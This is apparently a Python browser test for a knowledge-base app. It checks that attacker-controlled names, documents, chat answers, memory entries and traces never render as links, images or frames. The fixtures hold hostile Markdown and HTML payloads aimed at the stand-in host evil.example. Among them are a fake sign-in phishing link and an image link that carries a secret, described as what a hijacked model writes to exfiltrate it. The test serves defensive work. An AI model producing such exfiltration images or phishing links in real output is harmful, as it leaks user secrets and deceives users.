"""Untrusted text is never markup, in a real browser (issue 24, items 1 and 2).

A data folder is filled, before the server starts, with what an attacker controls: a store, files
(one text in two files), attributes, a chat session and its attachment named with Markdown links,
images and HTML; document text carrying the same; a chat whose stored answer is what a hijacked model
writes to exfiltrate a secret (``![status](http://evil.example/x?d=secret)``); an agent memory, a
question set and an LLM trace carrying it. Then every page is opened (Home, Vector stores with the
store open, Search playground with a query hitting the hostile chunk and its "Identical text also in"
caption, Evaluate, Files, Chat with the session open, Agent memory, Settings with its traces), every
request of the browser is recorded, and the test fails on

* any request to a host but the app's own (an image, a frame, a script, a style sheet), and
* any ``<a href>`` leading outside the app, or any ``<img>``/``<iframe>``/``<script>``/``<object>``/
  ``<embed>``/``<source>``/``<link>`` with an outside address, in the DOM.

Screenshots (1280x800 and 390 px) of the chat, the store and the search page go to
``test-artifacts/browser/hostile/``.
"""

from __future__ import annotations

import contextlib
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.helpers.browser import (
    ARTIFACTS,
    DESKTOP,
    PHONE,
    Requests,
    Server,
    explained,
    full_shot,
    open_context,
    rerun_and_wait,
    scroll_to,
    serve,
    wait_for_app,
)
from tests.helpers.env import isolate

pytestmark = [pytest.mark.browser]

FAKE = "fake/hash-8"
EVIL = "evil.example"
LINKS = (
    "[Click to sign in again](http://evil.example/login) ![x](http://evil.example/i.png) <img src=http://evil.example/h.png>"
)
STORE = "Notes " + LINKS
FILE = LINKS + ".md"
COPY = "copy [Sign in](http://evil.example/copy) ![c](http://evil.example/c.png).md"
ATTACHMENT = "attached " + LINKS + ".txt"
SESSION = "Plans " + LINKS
DOCUMENT = (
    "# Lighthouse keeping\n\nThe lighthouse keeper lights the lamp at dusk.\n\n"
    "![status](http://evil.example/doc.png) <img src=http://evil.example/doc-h.png>\n"
    "[Click to sign in again](http://evil.example/doc-login) <iframe src=http://evil.example/f></iframe>\n"
)
ANSWER = (
    "The keeper lights the lamp at dusk.\n\n![status](http://evil.example/x?d=secret)\n\n"
    "<img src=http://evil.example/answer.png> <iframe src=http://evil.example/frame></iframe>\n\n"
    "[Click to sign in again](http://evil.example/login) <http://evil.example/auto>\n\n"
    "![ref][1]\n\n[1]: http://evil.example/ref.png\n\n"
    "- a list item with **bold**\n- [the stores page](/stores)\n\n```\ncode <b>stays</b>\n```"
)
QUESTION = "Who lights the lamp? ![q](http://evil.example/q.png)"

# Everything in the DOM that loads or links outside the page's own origin.
OUTSIDE = """() => {
    const own = location.origin, out = [];
    const outside = (v) => { try { const u = new URL(v, location.href);
        return !['data:', 'blob:', 'about:'].includes(u.protocol) && u.origin !== own; } catch (e) { return true; } };
    for (const a of document.querySelectorAll('a[href]'))
        if (outside(a.getAttribute('href'))) out.push(`<a href="${a.getAttribute('href')}">`);
    for (const el of document.querySelectorAll('img, iframe, script, object, embed, source, video, audio, link, image, use'))
        for (const attr of ['src', 'srcset', 'data', 'href', 'xlink:href', 'poster'])
            if (el.hasAttribute(attr) && outside(el.getAttribute(attr).split(' ')[0]))
                out.push(`<${el.tagName.toLowerCase()} ${attr}="${el.getAttribute(attr)}">`);
    return out;
}"""


def seen(text: str) -> re.Pattern[str]:
    """``text`` as the page shows it: names may carry an invisible word joiner in their addresses
    (:data:`knowledge.text.highlight.WORD_JOINER`, so Streamlit does not link them)."""
    pattern = re.escape(text).replace("://", ":\u2060?//").replace("@", "\u2060?@").replace("www\\.", "www\u2060?\\.")
    return re.compile(pattern)


def _fill(data_dir: Path) -> str:
    """The hostile data folder, written through the service layer as the API or a bundle would;
    returns the chat session's id."""
    from knowledge import evaluation as ev
    from knowledge.agent_memory import VectorMemory
    from knowledge.chat import Chats
    from knowledge.chat.model import ASSISTANT, USER, Part
    from knowledge.config import load_settings
    from knowledge.system import System
    from knowledge.workbench import Workbench

    with pytest.MonkeyPatch.context() as mp:  # written isolated as a test is (no KNOWLEDGE_* of the caller's)
        isolate(mp, data_dir.parent)
        mp.setenv("KNOWLEDGE_EMBEDDINGS__MODEL", FAKE)
        system = System(load_settings(data_dir=data_dir))
        wb = Workbench(system)
        try:
            wb.create_store(STORE)
            first = wb.ingest_file(STORE, DOCUMENT.encode(), name=FILE)
            assert first.ok, first.message
            # the same text in another file (other bytes): the search says "Identical text also in"
            assert wb.ingest_file(STORE, (DOCUMENT + "\n\n").encode(), name=COPY).ok
            wb.set_file_attributes(STORE, first.file_id, {"note": LINKS})
            chat = Chats(system).service(wb)
            sid = chat.create_session(title=SESSION, stores=[STORE]).id
            chat.attach(sid, b"What the keeper wrote: " + LINKS.encode(), name=ATTACHMENT)
            hit = wb.search(STORE, "lighthouse keeper lamp", k=1)[0]
            chat.store.add_message(sid, USER, [Part("text", text="Who lights the lamp? " + LINKS)])
            chat.store.add_message(
                sid,
                ASSISTANT,
                [Part("text", text=ANSWER)],
                {
                    "config": "offline " + LINKS,
                    "citations": [
                        {
                            "file_name": FILE,
                            "heading": "Keeping " + LINKS,
                            "page": None,
                            "score": 0.9,
                            "text": hit.text,
                            "chunk_index": 0,
                            "char_start": 0,
                            "char_end": 10,
                            "store": STORE,
                            "source": STORE,
                        }
                    ],
                },
            )
            chat.store.add_trace(
                sid, "cfg " + LINKS, "openai", "m", {"messages": [LINKS]}, None, "refused: " + LINKS, datetime.now(UTC), 0.1
            )
            memory = VectorMemory(wb.backend(), wb.embedder())
            memory.remember("The keeper said " + LINKS)  # the default dataset, recalled on the page
            memory.remember("The keeper wrote " + LINKS, dataset="ds " + LINKS)
            fmt, questions = ev.parse_questions(f"{QUESTION}\t{FILE}\n".encode(), "q.tsv")
            wb.evaluations.save_set("set " + LINKS, questions, fmt)
            return sid
        finally:
            system.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    base = tmp_path_factory.mktemp("browser-hostile")
    sid = _fill(base / "data")
    with serve(base, env_extra={"KNOWLEDGE_EMBEDDINGS__MODEL": FAKE}) as srv:
        srv.session_id = sid
        yield srv


@pytest.fixture(scope="module")
def shots() -> Path:
    folder = ARTIFACTS / "hostile"
    folder.mkdir(parents=True, exist_ok=True)
    for old in folder.glob("*.png"):
        old.unlink()
    return folder


def test_hostile_names_texts_and_answers_load_and_link_nothing_outside(browser, hostile: Server, shots: Path):
    from playwright.sync_api import expect

    requests = Requests()
    context, page = open_context(browser, DESKTOP, requests)
    outside: dict[str, list[str]] = {}
    unreadable: list[str] = []

    def readable(name: str, expectation) -> None:
        """An expectation about what a person reads, kept for the end (the attack is checked first)."""
        try:
            expectation()
        except AssertionError as exc:
            unreadable.append(f"{name}: {str(exc).splitlines()[0]}")

    def check(name: str) -> None:
        wait_for_app(page)
        expect(page.locator('[data-testid="stException"]')).to_have_count(0)
        for box in page.locator('[data-testid="stExpander"] summary').all():  # folded text too
            if box.is_visible():
                box.click()
        page.wait_for_timeout(300)
        found = page.evaluate(OUTSIDE)
        if found:
            outside[name] = found

    try:
        with explained(page, hostile, shots):
            sid = hostile.session_id
            query = quote("lighthouse keeper lamp")
            pages = [
                ("home", ""),
                ("stores", "stores"),
                ("search", f"search?store={quote(STORE)}&q={query}"),
                ("evaluate", "evaluate"),
                ("files", "files"),
                ("chat", f"chat?session={sid}"),
                ("memory", "memory"),
                ("settings", "settings"),
            ]
            for name, path in pages:
                page.goto(f"{hostile.url}/{path}")
                check(name)
                main = page.get_by_test_id("stAppViewContainer")  # (the chat page has no stMain)
                if name == "stores":
                    readable(name, lambda main=main: expect(main.get_by_text(seen(f"🗂️ {STORE}"))).to_be_visible())
                if name == "search":
                    readable(name, lambda: expect(page.get_by_text(seen(f"Identical text also in: {FILE}"))).to_be_visible())
                if name == "chat":
                    answer = page.get_by_test_id("stChatMessage").filter(has_text="The keeper lights the lamp")
                    readable(
                        name,
                        lambda answer=answer: expect(
                            answer.get_by_text("[image: status] (http://evil.example/x?d=secret)")
                        ).to_be_visible(),
                    )
                    readable(
                        name,
                        lambda answer=answer: expect(
                            answer.get_by_text("Click to sign in again (http://evil.example/login)")
                        ).to_be_visible(),
                    )
                    readable(
                        name, lambda: expect(page.get_by_test_id("stSidebar").get_by_text(seen(ATTACHMENT))).to_be_visible()
                    )
                    readable(
                        name, lambda answer=answer: expect(answer.locator('a[href="/stores"]')).to_have_count(1)
                    )  # own link
                if name == "memory":
                    box = page.get_by_role("textbox", name="Query", exact=True)
                    rerun_and_wait(page, lambda box=box: box.fill("keeper"))
                    rerun_and_wait(page, lambda: page.get_by_role("button", name="Recall", exact=True).click())
                    check("memory recalled")
                    # the recall hit (the Browse section's Memory picker below names it too)
                    readable(
                        name,
                        lambda main=main: expect(main.get_by_text(seen("The keeper said " + LINKS)).first).to_be_visible(),
                    )
                if name == "settings":
                    rerun_and_wait(page, lambda: page.get_by_role("tab", name="Traces").click())
                    check("settings traces")
                    readable(
                        name, lambda main=main: expect(main.get_by_text(seen("refused: " + LINKS)).first).to_be_attached()
                    )
                if name in ("chat", "stores", "search"):
                    focus = {
                        "chat": page.get_by_test_id("stChatMessage").first,
                        "stores": page.get_by_test_id("stHeading").filter(has_text="Notes").first,
                        "search": page.get_by_text("Identical text also in").first,
                    }[name]
                    for width, viewport in (("1280", DESKTOP), ("390", PHONE)):
                        page.set_viewport_size(viewport)
                        page.wait_for_timeout(400)
                        with contextlib.suppress(Exception):
                            scroll_to(focus, timeout=5_000)
                        page.wait_for_timeout(200)
                        page.screenshot(path=str(shots / f"hostile-{name}-{width}.png"))
                        full_shot(page, shots / f"hostile-{name}-{width}-full.png")
                    page.set_viewport_size(DESKTOP)
                    # what a person reads: the names as written, no escape soup
                    text = page.locator("body").inner_text()
                    unreadable.extend(
                        f"{name}: {soup!r} shown" for soup in ("&#", "&lt;", "&gt;", "&amp;", "\\[") if soup in text
                    )
            # the attack first: nothing loaded or linked outside; then: the names read as written
            assert requests.urls, "no request was recorded"
            foreign = sorted(set(requests.foreign(hostile.url)))
            assert (outside, foreign) == ({}, []), f"outside in the DOM: {outside}\nrequests to other hosts: {foreign}"
            assert unreadable == [], unreadable
    finally:
        context.close()
